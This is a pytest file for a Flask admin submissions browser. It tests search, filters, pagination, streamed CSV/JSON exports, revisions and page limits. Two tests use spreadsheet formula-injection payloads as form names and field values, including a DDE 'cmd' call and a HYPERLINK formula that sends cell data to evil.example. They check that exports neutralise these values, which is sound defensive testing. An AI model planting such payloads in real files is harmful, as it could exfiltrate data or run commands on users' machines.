"""The submissions browser through the test client: search, filters, sorting, pages, exports, detail."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import tracemalloc

import pytest
from bson import ObjectId
from flask import Flask

from app.models import Submission, search_terms
from tests.admin_ui.conftest import owner_client
from tests.conftest import Api
from tests.support.seed import insert_many

FIELDS = [{"name": "email", "type": "email"}, {"name": "name"}, {"name": "age", "type": "number"}]


def _seed(app, form: dict, rows: list[tuple[dict, dt.datetime]], indexed: bool = True) -> list[str]:
    """Submissions written straight to the store (as the intake would with ``indexed``)."""
    docs = [
        {
            "_id": ObjectId(),
            "form_id": form["id"],
            "workspace_id": form["workspace_id"],
            "data": data,
            "revision": 1,
            "deleted": False,
            "created_at": at,
        }
        for data, at in rows
    ]
    with app.app_context():
        insert_many(Submission._get_collection(), docs)
        if indexed:
            search_terms.reindex(docs)
    return [str(d["_id"]) for d in docs]


def _listed(owner, url: str) -> list[str]:
    """The submission ids a browser page lists, in order."""
    text = owner.get(url).text
    return [part.split('"', 1)[0] for part in text.split('data-submission="')[1:]]


def test_search_filters_and_sorting_narrow_the_list(app, api, owner):
    form = api.create_form("People", FIELDS)
    base = dt.datetime(2026, 3, 1, 12)
    ada, grace, alan = _seed(
        app,
        form,
        [
            ({"email": "ada@example.com", "name": "Ada Lovelace", "age": 36}, base),
            ({"email": "grace@example.com", "name": "Grace Hopper", "age": 85}, base + dt.timedelta(days=1)),
            ({"email": "alan@example.com", "name": "Alan Turing", "age": 41}, base + dt.timedelta(days=2)),
        ],
    )
    url = f"/admin/forms/{form['id']}/submissions"
    assert _listed(owner, url) == [alan, grace, ada]
    assert _listed(owner, url + "?q=hopper") == [grace]
    assert _listed(owner, url + "?q=" + ada) == [ada]  # an id finds its submission
    assert _listed(owner, url + "?field=name&value=TURING") == [alan]
    assert _listed(owner, url + "?field=age&value=36") == [ada]
    assert _listed(owner, url + "?sort=age:desc") == [grace, alan, ada]
    assert _listed(owner, url + "?sort=oldest") == [ada, grace, alan]
    assert _listed(owner, url + "?from=2026-03-02&to=2026-03-02") == [grace]
    assert _listed(owner, "/admin/submissions?q=lovelace") == [ada]
    assert "No submission matches these filters." in owner.get(url + "?q=nobody").text


def test_days_of_the_date_filter_are_the_viewers_days(app, api, owner):
    form = api.create_form("Late", FIELDS)
    (late,) = _seed(app, form, [({"name": "night owl"}, dt.datetime(2026, 3, 1, 23, 30))])  # UTC
    url = f"/admin/forms/{form['id']}/submissions?from=2026-03-02&to=2026-03-02"
    assert _listed(owner, url + "&tz=Europe/Paris") == [late]  # 00:30 on the 2nd in Paris
    assert _listed(owner, url + "&tz=UTC") == []


def test_pages_go_both_ways(app, api, owner):
    form = api.create_form("Many", FIELDS)
    start = dt.datetime(2026, 1, 1)
    ids = _seed(app, form, [({"name": f"p{i}"}, start + dt.timedelta(minutes=i)) for i in range(30)])
    newest_first = list(reversed(ids))
    url = f"/admin/forms/{form['id']}/submissions"
    first = owner.get(url).text
    assert 'rel="next"' in first and 'rel="prev"' not in first
    second = owner.get(url + "?page=2").text
    assert 'rel="prev"' in second and 'rel="next"' not in second
    assert _listed(owner, url) + _listed(owner, url + "?page=2") == newest_first


def _export(owner, url: str) -> tuple[int, int, str]:
    """Read a streamed export chunk by chunk: (lines, peak bytes allocated meanwhile, its first chunks)."""
    tracemalloc.start()
    resp = owner.get(url, buffered=False)
    assert resp.is_streamed
    lines, head = 0, ""
    for chunk in resp.response:
        text = chunk.decode() if isinstance(chunk, bytes) else chunk
        lines += text.count("\n")
        head = head if head.count("\n") > 1 else head + text  # (the header and a first row)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    return lines, peak, head


@pytest.fixture
def patient_app(make_app) -> Flask:
    """An app with a generous store deadline, for tests of memory, not of time: on a loaded machine, writing
    and counting 10,000 rows can take longer than the default DB_TIMEOUT_MS (3 s), which then answered a
    store timeout (the seed's insert of 10,000 rows at once took 2.8 s at a moderate load)."""
    return make_app(DB_TIMEOUT_MS=120_000)


@pytest.mark.heavy(seconds=19)
def test_exports_stream_the_current_filter_with_memory_that_does_not_grow_with_rows(patient_app):
    app, api, owner = patient_app, Api(patient_app.test_client()), owner_client(patient_app)
    start = dt.datetime(2026, 1, 1)
    small, big = api.create_form("Small", FIELDS), api.create_form("Big", FIELDS)
    for form, n in ((small, 2_000), (big, 10_000)):
        rows = [
            ({"email": f"p{i}@example.com", "name": f"=cmd{i}", "age": i}, start + dt.timedelta(seconds=i))
            for i in range(n)
        ]
        _seed(app, form, rows)
    small_lines, small_peak, _ = _export(owner, f"/admin/submissions/export.csv?form_id={small['id']}")
    lines, peak, head = _export(owner, f"/admin/submissions/export.csv?form_id={big['id']}&sort=oldest")
    assert (small_lines, lines) == (2_001, 10_001)
    assert peak < small_peak * 1.5, f"5x the rows took {peak} bytes at once against {small_peak}"
    table = list(csv.reader(io.StringIO(head)))
    assert table[0][:7] == ["id", "form", "received_at", "revision", "email", "name", "age"]
    assert table[1][4:7] == ["p0@example.com", "'=cmd0", "0"]  # no formula reaches a spreadsheet

    found = owner.get(f"/admin/submissions/export.json?form_id={big['id']}&q=p9999@example.com")
    assert [r["data"]["age"] for r in json.loads(found.text)] == [9999]


def test_the_detail_shows_fields_revisions_and_deliveries(api, owner):
    form = api.create_form("Contact", FIELDS)
    hook = api.add_plugin(form["id"], "webhook", {"url": "http://127.0.0.1:9/hook"}, name="CRM hook")
    accepted = api.submit(form["id"], {"email": "ada@example.com", "name": "Ada", "age": 36})
    assert (
        api.patch(
            f"/api/submissions/{accepted['id']}",
            {"data": {"email": "ada@example.com", "name": "Ada L.", "age": 36}},
        ).status_code
        == 200
    )
    page = owner.get(f"/admin/submissions/{accepted['id']}").text
    assert "Ada L." in page and "Revision 1" in page and "Revision 2" in page
    assert "CRM hook" in page and f"/admin/jobs/{accepted['jobs'][0]}" in page
    assert "attempts used 0" in page and hook["id"]


def test_a_form_name_never_reaches_a_spreadsheet_as_a_formula_in_the_all_forms_export(app, api, owner):
    names = ['=HYPERLINK("https://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1:A9)", "=cmd|' /C calc'!A0"]
    for name in names:
        form = api.create_form(name, FIELDS)
        api.submit(form["id"], {"email": "a@example.com", "name": "Ada", "age": 1})
    table = list(csv.reader(io.StringIO(owner.get("/admin/submissions/export.csv").text)))
    assert sorted(row[1] for row in table[1:]) == sorted("'" + name for name in names)


def test_revisions_are_numbered_by_their_revision_even_when_older_ones_are_not_kept(api, owner):
    form = api.create_form("Contact", FIELDS)
    sub = api.submit(form["id"], {"email": "ada@example.com", "name": "Ada 0"})
    for n in range(1, 23):  # more edits than revisions kept
        edit = {"data": {"email": "ada@example.com", "name": f"Ada {n}"}}
        assert api.patch(f"/api/submissions/{sub['id']}", edit).status_code == 200
    page = owner.get(f"/admin/submissions/{sub['id']}").text
    items = re.findall(r'<li value="(\d+)">\s*(?:<strong>|<details>\s*<summary>)Revision (\d+)', page)
    assert items[0] == ("23", "23")  # the current one first
    assert all(value == shown for value, shown in items) and len(items) > 2
    assert [int(v) for v, _ in items] == sorted((int(v) for v, _ in items), reverse=True)
    assert "Older revisions are not kept." in page


def test_a_page_past_the_last_one_says_so_and_links_back(api, owner):
    form = api.create_form("Contact", FIELDS)
    for n in range(3):
        api.submit(form["id"], {"email": f"p{n}@example.com"})
    page = owner.get(f"/admin/forms/{form['id']}/submissions?page=7").text
    assert "This page is past the last one." in page and "No submissions yet" not in page
    assert f'href="/admin/forms/{form["id"]}/submissions"' in page


@pytest.mark.parametrize("page", ["100001", "99999999999999999999", "9223372036854775808"])
def test_a_page_number_beyond_the_limit_is_a_400_not_a_500(api, owner, page):
    form = api.create_form("Contact", FIELDS)
    for path in (f"/admin/forms/{form['id']}/submissions", "/admin/submissions", "/admin/submissions/export.csv"):
        resp = owner.get(f"{path}?page={page}&q=abc")
        assert resp.status_code == 400, (path, resp.status_code)
        assert "at most 100000" in resp.text
